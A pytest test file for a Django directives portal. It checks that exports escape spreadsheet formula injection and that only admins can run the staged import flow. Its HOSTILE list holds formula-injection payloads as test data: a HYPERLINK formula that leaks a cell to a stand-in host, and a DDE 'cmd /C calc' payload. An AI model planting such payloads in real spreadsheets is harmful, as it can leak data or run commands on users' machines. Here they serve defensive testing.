"""Export (docs/operations.md G15: formula injection escaped on every path), the template, and the
import pages (G14: admins only; the confirmation reads only the file this session uploaded)."""

import csv
import io

import openpyxl
import pytest
from django.urls import NoReverseMatch, reverse

from directives.imports import jobs
from directives.models import Directive, DirectiveImport, ImportLog
from organizations.models import Organization
from tests.directives.factories import DirectiveFactory, central_body
from tests.directives.sheets import xlsx

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "-2+3", "\r=1"]


@pytest.fixture
def hostile(khoa_giao_fields):
    body = central_body()
    return [
        DirectiveFactory(sequence=n + 1, issuing_body=body, title=title, signer="-5")
        for n, title in enumerate(HOSTILE)
    ]


def _xlsx_rows(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _csv_rows(data):
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs it to read UTF-8
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _check_escaped(rows):
    header, *body = rows
    title = header.index("Trích yếu")
    signer = header.index("Người ký")
    stored = sorted(Directive.objects.values_list("title", flat=True))  # stored trimmed: "\t=1" is "=1"
    assert sorted(row[title] for row in body) == ["'" + value for value in stored]
    assert {row[signer] for row in body} == {"'-5"}  # text that starts with "-" is escaped too
    for row in body:
        for value in row:
            assert not (isinstance(value, str) and value and value[0] in "=+-@\t\r"), row


def test_the_portal_export_escapes_every_formula_trigger_in_xlsx_and_csv(login, staff_user, hostile):
    client = login(staff_user)
    response = client.get("/van-ban/xuat/", {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="van-ban-chi-dao-')
    _check_escaped(_xlsx_rows(response.content))
    response = client.get("/van-ban/xuat/", {"format": "csv"})
    _check_escaped(_csv_rows(response.content))


def test_the_admin_export_escapes_the_same_way(login, admin_user, hostile):
    from directives.resources import KEYS

    client = login(admin_user)
    fields = {f"directiveresource_{key}": "on" for key in KEYS}
    response = client.post(
        "/quan-tri/directives/directive/export/", {"format": "0", "resource": "0", **fields}
    )
    assert response.status_code == 200, response.content[:500]
    _check_escaped(_xlsx_rows(response.content))
    response = client.post(
        "/quan-tri/directives/directive/export/", {"format": "1", "resource": "0", **fields}
    )
    _check_escaped(
        _csv_rows(
            b"\xef\xbb\xbf" + response.content
            if not response.content.startswith(b"\xef\xbb\xbf")
            else response.content
        )
    )


def test_the_admin_offers_no_import(login, admin_user):
    client = login(admin_user)
    page = client.get("/quan-tri/directives/directive/").content.decode()
    assert "/van-ban/nhap/" in page
    assert "/quan-tri/directives/directive/import/" not in page
    with pytest.raises(NoReverseMatch):
        reverse("admin:directives_directive_import")


def test_the_export_follows_the_list_filters_and_what_the_user_may_see(login, staff_user, liaison_a, hostile):
    response = login(staff_user).get("/van-ban/xuat/", {"format": "csv", "q": "sum"})
    assert [row[0] for row in _csv_rows(response.content)[1:]] == ["03-HD/BTGTW"]
    assert login(liaison_a).get("/van-ban/xuat/", {"format": "csv"}).status_code == 403


def test_an_export_imports_back_unchanged(login, admin_user, hostile, tmp_path, khoa_giao_fields):
    from directives.services import directive_import_apply

    base = Directive.objects.get(number="01-HD/BTGTW")
    DirectiveFactory(
        sequence=7,
        issuing_body=base.issuing_body,
        implements=base,
        term=13,
        fields=[khoa_giao_fields["y_te"], khoa_giao_fields["tre_em"]],
        effective_on=base.issued_on,
    )
    client = login(admin_user)
    for fmt in ("xlsx", "csv"):
        path = tmp_path / f"export.{fmt}"
        path.write_bytes(client.get("/van-ban/xuat/", {"format": fmt}).content)
        plan, log = directive_import_apply(path=path, file_name=path.name, by=admin_user)
        assert log is not None, plan.error_messages
        assert plan.counts == {"new": 0, "updated": 0, "unchanged": 7, "error": 0}, fmt


def test_the_template_has_the_headers_an_example_row_and_the_lists(login, admin_user, khoa_giao_fields):
    response = login(admin_user).get("/van-ban/nhap/mau.xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="mau-nhap-van-ban-chi-dao.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Văn bản", "Hướng dẫn", "Danh mục"]
    rows = [[cell.value for cell in row] for row in book["Văn bản"].iter_rows()]
    assert rows[0][:3] == ["Số hiệu *", "Ngày ban hành *", "Cơ quan ban hành *"]
    assert rows[1][:4] == ["128-HD/BTGTW", "22/12/2023", "Ban Tuyên giáo Trung ương", "XIII"]
    lists = [[cell.value for cell in row] for row in book["Danh mục"].iter_rows()]
    assert "Phòng, chống tệ nạn xã hội" in [row[3] for row in lists]


# --- the import pages ---------------------------------------------------------------------------


@pytest.fixture
def upload(tmp_path, khoa_giao_fields):
    central_body()
    return xlsx(
        tmp_path / "mot-van-ban.xlsx",
        headers=["Số hiệu", "Ngày ban hành", "Cơ quan ban hành", "Trích yếu"],
        rows=[["128-HD/BTGTW", "22/12/2023", "btgtw", "Công tác khoa giáo năm 2024"]],
    )


def _upload(client, path):
    with path.open("rb") as handle:
        return client.post("/van-ban/nhap/", {"file": handle})


def _job(response):
    """The import job a response redirected to."""
    assert response.status_code == 302, response.content[:300]
    return DirectiveImport.objects.get(pk=response["Location"].rstrip("/").split("/")[-1])


def test_upload_then_the_worker_reads_it_once_then_confirm_writes_it(
    login, admin_user, upload, settings, django_capture_on_commit_callbacks
):
    client = login(admin_user)
    with django_capture_on_commit_callbacks() as sent:
        job = _job(_upload(client, upload))
    assert len(sent) == 1  # the parse job, sent once the upload is saved
    assert job.status == "queued"
    stored = jobs.upload_path(job)
    assert stored.parent == settings.PRIVATE_ROOT / "directive-imports"
    assert stored.name != upload.name  # a name of ours, never the client's
    page = client.get(f"/van-ban/nhap/{job.pk}/").content.decode()
    assert "import-status" in page  # the progress bar that follows the job
    assert client.get(f"/van-ban/nhap/{job.pk}/trang-thai/").json()["running"] is True

    jobs.parse(job.pk)
    job.refresh_from_db()
    assert job.status == "parsed"
    assert job.preview["counts"]["new"] == 1
    assert Directive.objects.count() == 0
    page = client.get(f"/van-ban/nhap/{job.pk}/")
    assert "Xác nhận nhập (1 mới, 0 cập nhật)" in page.content.decode()
    stored.unlink()  # the rows read are kept: the file is not read again
    with django_capture_on_commit_callbacks() as sent:
        response = client.post(f"/van-ban/nhap/{job.pk}/xac-nhan/", {"action": "confirm"})
    assert response.status_code == 302
    assert len(sent) == 1  # the apply job
    jobs.apply(job.pk)
    job.refresh_from_db()
    assert job.status == "done"
    assert Directive.objects.get().title == "Công tác khoa giáo năm 2024"
    assert ImportLog.objects.get().file_name == "mot-van-ban.xlsx"
    assert job.log == ImportLog.objects.get()
    assert "1 văn bản mới, 0 cập nhật, 0 không đổi" in client.get(f"/van-ban/nhap/{job.pk}/").content.decode()


def test_running_either_job_twice_does_nothing_more(login, admin_user, upload):
    client = login(admin_user)
    job = _job(_upload(client, upload))
    assert jobs.parse(job.pk) is not None
    assert jobs.parse(job.pk) is None  # a second delivery finds the job parsed
    assert jobs.apply(job.pk) is None  # not confirmed: nothing is written
    assert Directive.objects.count() == 0
    client.post(f"/van-ban/nhap/{job.pk}/xac-nhan/", {"action": "confirm"})
    assert jobs.apply(job.pk) is not None
    assert jobs.apply(job.pk) is None
    assert client.post(f"/van-ban/nhap/{job.pk}/xac-nhan/", {"action": "confirm"}).status_code == 302
    assert jobs.apply(job.pk) is None
    assert Directive.objects.count() == 1
    assert ImportLog.objects.count() == 1


def test_another_admin_cannot_open_confirm_or_cancel_my_import(client, login, admin_user, upload):
    from tests.factories import UserFactory

    mine = login(admin_user)
    job = _job(_upload(mine, upload))
    jobs.parse(job.pk)
    mine.logout()
    other = UserFactory(username="admin2", role="admin", is_staff=True)
    login(other)
    assert client.get(f"/van-ban/nhap/{job.pk}/").status_code == 404
    assert client.get(f"/van-ban/nhap/{job.pk}/trang-thai/").status_code == 404
    assert client.post(f"/van-ban/nhap/{job.pk}/xac-nhan/", {"action": "confirm"}).status_code == 404
    assert client.post(f"/van-ban/nhap/{job.pk}/xac-nhan/", {"action": "cancel"}).status_code == 404
    job.refresh_from_db()
    assert job.confirmed_at is None
    assert jobs.apply(job.pk) is None
    assert Directive.objects.count() == 0


def test_cancel_forgets_the_file(login, admin_user, upload, django_capture_on_commit_callbacks):
    client = login(admin_user)
    job = _job(_upload(client, upload))
    jobs.parse(job.pk)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/van-ban/nhap/{job.pk}/xac-nhan/", {"action": "cancel"})
    assert response.status_code == 302
    assert not DirectiveImport.objects.filter(pk=job.pk).exists()
    assert not jobs.upload_path(job).exists()
    assert not jobs.rows_path(job).exists()
    assert Directive.objects.count() == 0


def test_a_file_with_errors_cannot_be_confirmed_and_shows_them(login, admin_user, tmp_path, khoa_giao_fields):
    central_body()
    path = xlsx(
        tmp_path / "loi.xlsx",
        headers=["Số hiệu", "Ngày ban hành", "Cơ quan ban hành"],
        rows=[["128-HD/BTGTW", "22/12/2023", "btgtw"], ["31-HD/BTGTW", "32/11/2021", "btgtw"]],
    )
    client = login(admin_user)
    job = _job(_upload(client, path))
    jobs.parse(job.pk)
    page = client.get(f"/van-ban/nhap/{job.pk}/").content.decode()
    assert "Dòng 3, cột Ngày ban hành (B)" in page
    assert "Xác nhận nhập" not in page
    response = client.post(f"/van-ban/nhap/{job.pk}/xac-nhan/", {"action": "confirm"}, follow=True)
    assert "không còn chờ xác nhận" in response.content.decode()
    assert jobs.apply(job.pk) is None
    assert Directive.objects.count() == 0
    assert ImportLog.objects.count() == 0


def test_the_register_changing_after_the_preview_sends_the_admin_back_to_it(login, admin_user, upload):
    client = login(admin_user)
    job = _job(_upload(client, upload))
    jobs.parse(job.pk)
    client.post(f"/van-ban/nhap/{job.pk}/xac-nhan/", {"action": "confirm"})
    # Meanwhile the issuer's code is changed in the admin: the row's "btgtw" names nobody now.
    Organization.objects.filter(code="btgtw").update(code="ban-tg-tw")
    job = jobs.apply(job.pk)
    assert job.status == "parsed"
    assert job.confirmed_at is None
    assert not job.preview["is_valid"]
    assert "Sổ văn bản đã thay đổi" in client.get(f"/van-ban/nhap/{job.pk}/").content.decode()
    assert Directive.objects.count() == 0
    assert ImportLog.objects.count() == 0


@pytest.mark.parametrize("role", ["staff_user", "leader_user", "liaison_a"])
def test_only_admins_import(request, login, role, upload):
    client = login(request.getfixturevalue(role))
    assert _upload(client, upload).status_code == 403
    assert client.get("/van-ban/nhap/mau.xlsx").status_code == 403
    assert Directive.objects.count() == 0
    assert DirectiveImport.objects.count() == 0
